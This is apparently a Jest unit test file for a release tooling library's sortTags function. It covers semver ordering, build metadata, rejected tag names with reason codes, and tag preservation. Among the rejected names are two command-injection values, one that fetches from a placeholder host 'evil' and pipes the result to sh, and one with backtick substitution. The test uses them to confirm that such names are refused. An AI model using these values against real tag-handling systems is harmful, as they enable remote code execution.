import { describe, expect, test } from "@jest/globals";
import { sortTags } from "@release-actions/core/versioning/sort-tags";
import { tagTemplate } from "@release-actions/core/versioning/tag-template";
import fc from "fast-check";

const named = (...names: string[]) => names.map((name) => ({ name }));

describe("sortTags", () => {
  test("puts the highest version first, whatever the order of the tags", () => {
    const names = ["v2.0.0", "v2.0.0-rc.10", "v2.0.0-rc.9", "v1.10.0", "v1.9.0"];
    fc.assert(
      fc.property(fc.shuffledSubarray(names, { minLength: names.length }), (shuffled) => {
        const { versions } = sortTags(tagTemplate("v{version}", "semver"), named(...shuffled));
        expect(versions.map(({ tag }) => tag.name)).toEqual(names);
      }),
    );
  });

  test("orders versions that differ in build metadata alone in one way", () => {
    const template = tagTemplate("v{version}", "semver");
    const order = (names: string[]) => sortTags(template, named(...names)).versions.map(({ tag }) => tag.name);
    expect(order(["v1.0.0+a", "v1.0.0+b"])).toEqual(order(["v1.0.0+b", "v1.0.0+a"]));
  });

  test.each([
    ["v1", "NAMES_A_LINE"],
    ["v1.2", "OTHER_SCHEME"],
    ["v2025.10.001", "OTHER_SCHEME"],
    ["v1.0.0-0123", "NO_VERSION"],
    ["v99999999999999999999.0.0", "NO_VERSION"],
    ['v1.0.0";curl$\x7bIFS}evil|sh;"', "NO_VERSION"],
    ["v1.0.0`id`", "NO_VERSION"],
    ["refs/tags/v1", "NAMES_A_REF"],
  ])("lists %s as passed over: %s", (name, reasonCode) => {
    const { versions, passedOver } = sortTags(tagTemplate("v{version}", "semver"), named(name));
    expect(versions).toEqual([]);
    expect(passedOver).toEqual([{ tag: { name }, reasonCode, reason: expect.stringMatching(/^It .*\.$/) }]);
  });

  test("has nothing to say of other components' tags and of names that are no versions", () => {
    const others = named("frontend-v1.0.0", "models-2025.10.001", "vendor", "nightly", "1.0.0");
    expect(sortTags(tagTemplate("v{version}", "semver"), others)).toEqual({ versions: [], passedOver: [] });
  });

  test("keeps what the caller knows of a tag", () => {
    const tag = { name: "v1.0.0", sha: "abc" };
    expect(sortTags(tagTemplate("v{version}", "semver"), [tag]).versions[0]?.tag).toBe(tag);
  });
});
